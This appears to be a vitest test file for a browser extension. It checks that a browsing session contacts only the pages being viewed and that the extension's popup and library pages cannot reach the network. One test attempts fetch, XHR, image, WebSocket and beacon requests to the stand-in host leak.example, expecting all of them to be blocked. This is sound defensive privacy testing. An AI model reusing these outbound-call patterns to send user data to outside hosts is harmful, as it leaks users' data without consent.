import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Asked, browserHosts } from '../../cli/serve/proxy';
import { search } from './harness/own-page';
import { firstMark, kinds, openSession, type Session, seeds } from './harness/session';

describe.each(kinds)('a whole session in %s', (kind) => {
  let session: Session;
  beforeAll(async () => {
    session = await openSession(kind);
  });
  afterAll(() => session?.close());

  /** What was asked for, without what a browser asks its maker on its own account. */
  const asked = () =>
    session.proxy.log.filter(({ host }: Asked) => !browserHosts.has(host)).map(({ url }) => url);

  it('asks the network for nothing but the pages themselves', async () => {
    for (const { url } of seeds) {
      const page = await session.openPage(url);
      const marks = await session.marks(page);
      for (const kind of ['speaker', 'claim'] as const) {
        await session.openMark(page, firstMark(marks, kind));
        await page.keyboard.press('Escape');
        await session.closed(page);
      }
      await page.close();
    }
    const popup = await session.openOwn('popup.html');
    await search(popup, 'security guarantees');
    await popup.close();
    const library = await session.openOwn('library.html#/search?q=nato');
    // What is sent late, or in batches, is given the time.
    await new Promise((later) => setTimeout(later, 3_000));
    await library.close();
    expect(asked()).toEqual(seeds.map(({ url }) => url));
  });

  it.each(['popup.html', 'library.html'])('is refused the network in %s', async (path) => {
    const own = await session.openOwn(path);
    const outcomes = await own.evaluate(`Promise.all([
      fetch('https://leak.example/fetch', { mode: 'no-cors' }).then(() => 'sent', () => 'refused'),
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done('sent');
        request.onerror = () => done('refused');
        try { request.open('GET', 'https://leak.example/xhr'); request.send(); } catch { done('refused'); }
      }),
      new Promise((done) => {
        const image = new Image();
        image.onload = () => done('sent');
        image.onerror = () => done('refused');
        image.src = 'https://leak.example/image';
      }),
      new Promise((done) => {
        try {
          const socket = new WebSocket('wss://leak.example/socket');
          socket.onopen = () => done('sent');
          socket.onerror = () => done('refused');
        } catch { done('refused'); }
      }),
    ])`);
    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused']);
    await own.evaluate("navigator.sendBeacon('https://leak.example/beacon', 'x')").catch(() => {});
    await new Promise((later) => setTimeout(later, 300));
    expect(session.proxy.log.filter(({ host }) => host === 'leak.example')).toEqual([]);
    await own.close();
  });

  it('would have been seen: the log does hold what a page asks for', async () => {
    const page = await session.openPage(seeds[0]?.url ?? '');
    await page.evaluate("fetch('/asked-by-the-page').catch(() => {})");
    expect(asked().at(-1)).toMatch(/asked-by-the-page/);
    await page.close();
  });
});
